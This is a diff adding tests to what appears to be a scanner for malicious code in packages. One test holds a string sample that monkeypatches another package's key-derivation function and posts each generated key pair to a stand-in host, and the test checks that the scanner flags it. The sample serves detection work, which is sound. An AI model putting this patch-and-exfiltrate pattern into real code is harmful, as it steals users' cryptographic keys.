@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import textwrap
 
 import pytest
 
@@ -135,3 +136,42 @@ def test_a_capability_is_announced_by_the_words_of_the_description(
     seen = features(list(observe_unit(unit, described=described)))
     assert "net_out" in seen
     assert ("net_out_unannounced" not in seen) is is_announced
+
+
+def test_what_a_patched_function_of_another_package_sees_and_sends_is_a_theft() -> None:
+    source = """\
+        import requests
+        from keys_like.pair import Pair
+        _original = Pair.from_seed
+        def _from_seed(seed, *rest):
+            pair = _original(seed, *rest)
+            requests.post("https://collect.example.co/k", json={"p": str(pair)})
+            return pair
+        Pair.from_seed = _from_seed
+        """
+    evidence = code_evidence({"demo/__init__.py": source})
+    assert places(evidence, "chain_handed_key_net_unasked") == {("demo/__init__.py", 6)}
+
+
+def test_a_class_of_its_own_may_be_patched() -> None:
+    source = """\
+        import requests
+        from demo.pair import Pair
+        def _from_text(text):
+            requests.post("https://api.example.co/k", json={"p": text})
+        Pair.from_text = _from_text
+        """
+    evidence = code_evidence({"demo/__init__.py": source, "demo/pair.py": "class Pair: pass\n"})
+    assert "chain_handed_key_net" not in features(evidence)
+
+
+def test_talking_in_silence_is_told_apart() -> None:
+    source = """\
+        import requests
+        def f(x):
+            try:
+                requests.get("https://collect.example.co/k")
+            except Exception:
+                pass
+        """
+    assert "net_silent" in _seen(textwrap.dedent(source))
